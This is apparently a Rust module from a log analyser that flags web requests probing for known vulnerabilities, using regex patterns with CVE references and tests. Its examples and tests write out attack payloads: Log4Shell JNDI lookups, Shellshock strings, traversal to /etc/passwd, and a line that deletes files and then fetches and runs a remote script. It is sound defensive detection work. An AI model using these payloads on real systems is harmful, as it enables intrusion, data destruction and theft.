//! Requests for well-known holes: is somebody trying the doors?
//!
//! Takes a request, says whether it looks for one of the holes in [`PROBES`]. A request is read as a server would: log
//! escapes undone, then what `parse::detect::normalize` knows. Few patterns, each with its source: a request that people make too is no
//! probe, however often scanners make it. So `/wp-login.php`, `/xmlrpc.php`, `/phpmyadmin/`, `/actuator/health` (monitors) and
//! a few `../` in a query do not count.

use std::sync::LazyLock;

use regex::bytes::Regex;

use crate::parse::access::request::Web;
use crate::parse::detect::normalize::{collapse_slashes, decode, strip_path_params};
use crate::parse::detect::well_known::split_target;

/// One well-known hole, and the requests that look for it.
#[derive(Debug, Clone, Copy)]
pub struct ProbePattern {
    /// What people call it.
    pub name: &'static str,
    /// Where the pattern is looked for.
    pub place: RequestPart,
    /// A regular expression over bytes, in any case.
    pub pattern: &'static str,
    /// The number of the vulnerability, or the page that describes it.
    pub source: &'static str,
    /// What stands in that place of a request that looks for it.
    pub example: &'static str,
}

/// A part of a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RequestPart {
    /// The path of the target, decoded, folded and bared.
    Path,
    /// The target with its query, decoded and folded.
    Target,
    /// What a header says, and the target as in [`RequestPart::Target`].
    Anywhere,
    /// What a header says: user agent, referrer, user or X-Forwarded-For.
    Header,
}

const fn probe(name: &'static str, place: RequestPart, pattern: &'static str, source: &'static str, example: &'static str) -> ProbePattern {
    ProbePattern { name, place, pattern, source, example }
}

/// What may stand between two letters of a lookup: the begin of another one up to its outcome, or an end; any number of them.
macro_rules! lookup {
    () => {
        r"(?:\$+\{[^${}]*[:-]'?|'?\})*"
    };
}

/// A lookup of Log4j that asks another server.
pub(crate) const LOG4SHELL: &str =
    concat!(r"\$\{", lookup!(), "j", lookup!(), "n", lookup!(), "d", lookup!(), r"(?:i|\xc4\xb1)", lookup!(), r":|\$\{base64:jhtqbmrp");

/// Every hole that is known. Patterns and examples are the project's own.
#[rustfmt::skip]
pub const PROBES: &[ProbePattern] = &[
    // Browsers resolve `..` before they ask, so one in a path is a tool's.
    probe("path traversal", RequestPart::Path, r"(?:^|/)\.\.(?:/|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
    // Pages of a site link to each other with up to three steps (`?next=../../login`); four, or a known file behind one, no page needs.
    probe("path traversal in a query", RequestPart::Target, r"\?.*(?:(?:(?:\.\.){1,2}/){4}|\.\./(?:etc/(?:passwd|shadow|hosts|group)|proc/self/\w+|(?:(?:windows|winnt)/)?win\.ini|boot\.ini|web-inf/web\.xml|wp-config\.php|\.env)(?:[^\w.-]|$))", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    // As a whole path or a whole value, or as what a command reads: people write about these files too.
    probe("password file", RequestPart::Target, r#"(?:^(?:/@fs)?|[?&=][ +]*|file:|\(['"]?|(?:[;|`(]|\b(?:cmd|command|exec)=)[ +]*(?:/bin/)?cat(?:[ +]|\$\{?ifs\}?)+)(?:[a-z]:)?/(?:etc/(?:passwd|shadow)|proc/self/(?:environ|cmdline|maps|status|fd/\d+)|windows/win\.ini)(?:[^\w.-]|$)"#, "OWASP WSTG-ATHZ-01, WSTG-INPV-12", "/download?file=/etc/passwd%00.html"),
    probe("Shellshock", RequestPart::Header, r"^\(\) ?\{", "CVE-2014-6271", "() { :; }; /bin/id"),
    probe("Shellshock in a target", RequestPart::Target, r"(?:^|[/?&=])\(\) ?\{ ?:?;? ?\}?;", "CVE-2014-6271", "/cgi-bin/status?()%20{%20:;};%20/bin/id"),
    // The letters of `jndi:` in a lookup, each perhaps the outcome of another one, `${lower:j}` or `${::-j}`; `\xc4\xb1` is a dotless i.
    probe("Log4Shell", RequestPart::Anywhere, LOG4SHELL, "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
    // No file's name has one; it ends the name for what is written in C.
    probe("NUL in a path", RequestPart::Target, r"^/[^?\x00]*\x00", "CVE-2006-7243; CWE-158", "/wp-config.php%00.html"),
    // Whatever is behind `.env` but `.html`: that is a page about it.
    probe("environment file", RequestPart::Path, r"/\.env(?:[_~-][^./]*)?(?:(?:\.[^./]*)*\.(?:[^./h][^./]*|h(?:[^./t][^./]*)?|ht(?:[^./m][^./]*)?|htm[^./l][^./]*|html[^./]+)?)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
    probe("version control", RequestPart::Path, r"/\.(?:git|svn|hg|bzr)(?:/|$)|/\.git(?:config|-credentials)$", "CWE-527", "/.git/config"),
    probe("key or credentials file", RequestPart::Path, r"/\.(?:aws/(?:credentials|config)|ssh/(?:id_[a-z0-9]+|authorized_keys)|docker/config\.json|vscode/sftp\.json|htpasswd)$", "CWE-538; OWASP WSTG-CONF-04", "/.aws/credentials"),
    probe("wp-config backup", RequestPart::Path, r"/[.#]?wp-config(?:\.php[.~_#-][^/]*|\.(?:bak|old|orig|save|txt|zip|inc|swp))$", "OWASP WSTG-CONF-04; WordPress, Hardening WordPress", "/wp-config.php.bak"),
    probe("PHPUnit eval-stdin", RequestPart::Path, r"/eval-stdin\.php$", "CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    probe("shell in cgi-bin", RequestPart::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
    probe("php-cgi argument", RequestPart::Target, r"\?.*(?:-|\xad)d[ +]*allow_url_include", "CVE-2012-1823, CVE-2024-4577", "/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    probe("ThinkPHP", RequestPart::Target, r"think/app/invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
    probe("Laravel Ignition", RequestPart::Path, r"/_ignition/execute-solution$", "CVE-2021-3129", "/_ignition/execute-solution"),
    probe("Spring actuator", RequestPart::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
    probe("Spring4Shell", RequestPart::Target, r"class\.module\.classloader\.", "CVE-2022-22965", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    probe("Java expression", RequestPart::Target, r#"java\.lang\.(?:runtime|processbuilder)(?:@|\(|\)?\.getruntime\b|['"]\)\.)"#, "CVE-2022-26134, CVE-2017-5638, CVE-2022-22963", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
    probe("ProxyShell", RequestPart::Target, r"/autodiscover\.json.*@.*(?:powershell|/mapi/nspi)", "CVE-2021-34473", "/autodiscover/autodiscover.json?a@b.example/powershell"),
    probe("WebLogic wls-wsat", RequestPart::Path, r"^/wls-wsat(?:/|$)", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
    probe("WebLogic async", RequestPart::Path, r"^/_async/asyncresponseservice", "CVE-2019-2725", "/_async/AsyncResponseService"),
    probe("GPON router", RequestPart::Path, r"^/(?:boaform|gponform)(?:/|$)", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
    probe("D-Link HNAP", RequestPart::Path, r"^/hnap1$", "CVE-2015-2051", "/HNAP1/"),
    probe("MVPower recorder", RequestPart::Target, r"^/shell\?.*\bcd[ +]+/", "CVE-2016-20016", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x;sh+x"),
    probe("NETGEAR setup.cgi", RequestPart::Target, r"/setup\.cgi\?.*todo=syscmd", "CVE-2024-12847", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/"),
    probe("DrayTek Vigor", RequestPart::Path, r"^/cgi-bin/mainfunction\.cgi", "CVE-2020-8515", "/cgi-bin/mainfunction.cgi"),
    probe("TP-Link Archer", RequestPart::Target, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
    probe("Hikvision camera", RequestPart::Path, r"^/sdk/weblanguage$", "CVE-2021-36260", "/SDK/webLanguage"),
    probe("nmap", RequestPart::Path, r"^/nmaplowercheck\d+$|^/nice ports,/trinity\.txt\.bak$", "nmap nselib/http.lua, nmap-service-probes FourOhFourRequest", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
];

/// Whether a request looks for one of [`PROBES`].
pub(crate) fn is_probe(web: &Web<'_>) -> bool {
    let Some(probes) = PATTERNS.as_ref() else { return false };
    let headers = [web.agent, web.referrer, web.user, web.forwarded];
    web.target().is_some_and(|target| probes.finds_in_target(&web.plain(target)))
        || headers.into_iter().flatten().any(|header| probes.header.is_match(&web.plain(header)))
}

/// The patterns of the table, joined by what they are looked for in. `None` cannot be, and a test would say so.
static PATTERNS: LazyLock<Option<ProbePatterns>> = LazyLock::new(|| ProbePatterns::build().ok());

struct ProbePatterns {
    path: Regex,
    target: Regex,
    header: Regex,
}

impl ProbePatterns {
    fn build() -> Result<Self, regex::Error> {
        let join = |places: &[RequestPart]| {
            let patterns: Vec<_> = PROBES.iter().filter(|probe| places.contains(&probe.place)).map(|probe| probe.pattern).collect();
            Regex::new(&format!("(?is-u){}", patterns.join("|")))
        };
        Ok(Self {
            path: join(&[RequestPart::Path])?,
            target: join(&[RequestPart::Target, RequestPart::Anywhere])?,
            header: join(&[RequestPart::Header, RequestPart::Anywhere])?,
        })
    }

    fn finds_in_target(&self, target: &[u8]) -> bool {
        // The path is cut off before it is decoded: an encoded `?` is part of a name.
        let (path, query) = split_target(target);
        let decoded = decode(path);
        let path = collapse_slashes(&decoded);
        if self.path.is_match(&strip_path_params(&path)) {
            return true;
        }
        match query {
            Some(query) => self.target.is_match(&[&path, &b"?"[..], &collapse_slashes(&decode(query))].concat()),
            None => self.target.is_match(&path),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::access::escaping::Escaping;

    fn request(line: &str) -> Web<'_> {
        Web {
            client: b"192.0.2.1",
            peer: None,
            domain: None,
            user: None,
            time: None,
            request: Some(line.as_bytes()),
            status: Some(404),
            body_bytes: None,
            referrer: None,
            agent: None,
            forwarded: None,
            escaping: Escaping::Escaped,
            is_ambiguous: false,
            repeats: 0,
        }
    }

    fn fires(target: &str, agent: &str) -> bool {
        is_probe(&Web { agent: Some(agent.as_bytes()), ..request(&format!("GET {target} HTTP/1.1")) })
    }

    #[test]
    fn every_probe_fires_on_its_example_and_by_its_own_pattern() {
        for probe in PROBES {
            let is_header = probe.place == RequestPart::Header;
            // Logs double a backslash.
            let logged = probe.example.replace('\\', r"\\");
            let (target, agent) = if is_header { ("/", &*logged) } else { (&*logged, "Mozilla/5.0") };
            assert!(fires(target, agent), "{}", probe.name);
            let (path, query) = split_target(probe.example.as_bytes());
            let folded = collapse_slashes(&decode(path)).into_owned();
            let query = query.map(|query| [&b"?"[..], &collapse_slashes(&decode(query))].concat()).unwrap_or_default();
            let text = match probe.place {
                RequestPart::Path => strip_path_params(&folded).into_owned(),
                RequestPart::Target | RequestPart::Anywhere => [folded, query].concat(),
                RequestPart::Header => probe.example.into(),
            };
            let own = Regex::new(&format!("(?is-u){}", probe.pattern)).expect("a pattern");
            assert!(own.is_match(&text), "{}: another pattern finds the example", probe.name);
            assert_eq!(PROBES.iter().filter(|other| other.name == probe.name).count(), 1, "{} stands twice", probe.name);
        }
    }

    #[test]
    fn what_is_hidden_is_seen() {
        for target in [
            "/../../etc/hosts",
            "/a/..",
            "/static/..%5c..%5cwindows",
            "/static/%2e%2e/x",
            "/static/%252e%252e%252fx",
            "/scripts/..%c0%af../winnt/system32/cmd.exe",
            "/tmui/login.jsp/..;/tmui/locallb/",
            "http://host.example/.env",
            "/.ENV",
            "/%2eenv",
            "/.git",
            "/blog/.git/HEAD",
            "/?x=${jndi:ldap://192.0.2.1/a}",
            "/?x=%24%7Bjndi%3Aldap%3A//192.0.2.1/a%7D",
            "/?x=${j${::-n}di:ldap://192.0.2.1}",
            "/$%7B$%7Benv:X:-j%7Dndi:rmi://192.0.2.1%7D",
            "/.wp-config.php.swp",
            "/wp-config.php~",
            "/?f=..%2f..%2f..%2fboot.ini",
            "/actuator",
            "/api/actuator/heapdump",
            "/.env%00",
            "/.env%20",
            "/.env/",
            "/.env/.",
            "//.env",
            "/.env;.js",
            "/.env~",
            "/.env.",
            "/.env.local.php",
            "/.env_old",
            "/.env.htpasswd",
            "/.git;/config",
            "/actuator;/env",
            "/actuator/;x=y/env",
            "/..%09/",
            "/..%00/",
            "/a/%u002e%u002e/b",
            "/a/%c0%ae%c0%ae/b",
            "/a/%25252e%25252e/b",
            "/?file=/etc//passwd",
            "/?file=/etc/./passwd",
            "/?file=%5cetc%5cpasswd",
            "/?file=+/etc/passwd&x=1",
            "/?file=file:///etc/passwd",
            "/?file=php://filter/convert.base64-encode/resource=/etc/passwd",
            "/?file=../etc/passwd",
            "/?file=....//....//etc/passwd",
            "/?file=/var/www/../../etc/shadow",
            "/?file=C:/windows/win.ini",
            "/?file=../../../../x",
            "/?ping=192.0.2.1;cat+/etc/passwd",
            "/?cmd=cat$%7BIFS%7D/etc/passwd",
            "/etc/passwd",
            "/@fs/etc/passwd?raw??",
            "/proc/self/cmdline",
            "/?file=/proc/self/environ",
            "/wp-config.php%00",
            "/.aws/credentials%00",
            "/vendor/phpunit/eval-stdin.php/",
            "/wls-wsat",
            "/_async/AsyncResponseService",
            "/boaform",
            "/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1}",
            "/?x=${${lower:jndi}:ldap://192.0.2.1}",
            "/?x=${jndi${x:-:}ldap://192.0.2.1}",
            "/?x=${${date:'j'}ndi:ldap://192.0.2.1}",
            "/?x=${${::-${::-$${::-j}}}}ndi:ldap://192.0.2.1}",
            "/?x=${jnd${upper:%C4%B1}:ldap://192.0.2.1}",
            "/?x=${base64:JHtqbmRpOmxkYXA6Ly8xOTIuMC4yLjEvYX0=}",
            "/?x=T(java.lang.Runtime).getRuntime().exec(1)",
            "/?x=new+java.lang.ProcessBuilder(1)",
            "/?x=''.getClass().forName('java.lang.Runtime').getMethods()",
        ] {
            assert!(fires(target, "Mozilla/5.0"), "{target}");
        }
        let header = b"${jndi:ldap://192.0.2.1/a}";
        assert!(is_probe(&Web { user: Some(header), ..request("GET / HTTP/1.1") }));
        assert!(is_probe(&Web { forwarded: Some(header), ..request("GET / HTTP/1.1") }));
        assert!(is_probe(&Web { referrer: Some(header), ..request("GET / HTTP/1.1") }));
        assert!(!is_probe(&Web { user: Some(b"${user}"), forwarded: Some(b"192.0.2.9"), ..request("GET / HTTP/1.1") }));
        for line in ["GET /.env  HTTP/1.1", "GET /.env HTTP/1.1 ", r"GET /.env\tHTTP/1.1", r"GET\t/.env HTTP/1.1", "G.T /.env HTTP/1.1"] {
            assert!(is_probe(&request(line)), "{line}");
        }
        for agent in ["() { :;}; echo", "(){ x", "${jndi:dns://192.0.2.1}", r"\x24{jndi:ldap://192.0.2.1}"] {
            assert!(fires("/", agent), "{agent}");
        }
    }

    #[test]
    fn ordinary_requests_are_none() {
        for target in [
            "/",
            "*",
            "/index.html",
            "/a..b",
            "/file...txt",
            "/releases/v1..v2.diff",
            "/..hidden",
            "/search?q=../",
            "/search?q=..%2F",
            "/go?to=../next/page",
            "/.well-known/acme-challenge/token",
            "/.well-known/security.txt",
            "/environment",
            "/.environment",
            "/.envoy/x",
            "/docs/.env-guide/page",
            "/docs/git/",
            "/.github/workflows/ci.yml",
            "/.gitignore",
            "/team/project.git/info/refs?service=git-upload-pack",
            "/wp-login.php",
            "/wp-admin/admin-ajax.php",
            "/wp-config.php",
            "/docs/wp-config.php",
            "/xmlrpc.php",
            "/phpmyadmin/",
            "/docs/etc/passwd.html",
            "/man/etc/passwd-format",
            "/search?q=/etc/passwd.5",
            "/cgi-bin/search.sh.html",
            "/cgi-bin/status.cgi",
            "/cgi-bin/luci/;stok=0123456789abcdef/admin",
            "/actuator/health",
            "/actuator/prometheus",
            "/actuators/list",
            "/phpunit/docs/",
            "/shell?topic=bash",
            "/setup.cgi?next_file=index.htm",
            "/autodiscover/autodiscover.json?Email=user@host.example&Protocol=ActiveSync",
            "/search?q=class+module+java.lang.String",
            "/page?callback=function(){return+1}",
            "/page?tpl=${name}",
            "/price?x=$%7Bamount%7D",
            "/hnap1x/",
            "/100%25-off",
            "/50%",
            "/a%zz",
            "/javadoc/java.lang.Runtime.html",
            "/?topic=java.lang.Runtime",
            "/?q=java.lang.ProcessBuilder+example",
            "/?q=${date:yyyy}",
            "/?q=${env:HOME}",
            "/?x=${upper:a}",
            "/?a=${${x}}",
            "/?a=${jndi}",
            "/?redirect=../../login",
            "/?redirect=../../../login",
            "/?redirect=../etc/hosts.html",
            "/docs/.env.html",
            "/docs/.env.HTM",
            "/docs/.env.local.html",
            "/docs/.env-guide.html",
            "/docs/.env_guide/page",
            "/cgi-bin/csh",
            "/?q=how+to+edit+/etc/passwd",
            "/?q=edit+c:%5Cwindows%5Cwin.ini",
            "/man5/etc/passwd",
            "/man5/proc/self/environ",
            "/cgi-bin/luci/locale",
            "/page;jsessionid=0123",
            "/my%20files/a%20b.txt",
            "/go?to=//cdn.example//a/./b",
            "/wls-wsatx",
            "/boaforms/list",
        ] {
            assert!(!fires(target, "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"), "{target}");
        }
        assert!(!fires("/", "x () { y"));
        // A TLS greeting on a port without TLS looks for no hole.
        assert!(!is_probe(&request(r"\x16\x03\x01\x00\xf7/\x00")));
        assert!(PATTERNS.is_some());
    }
}
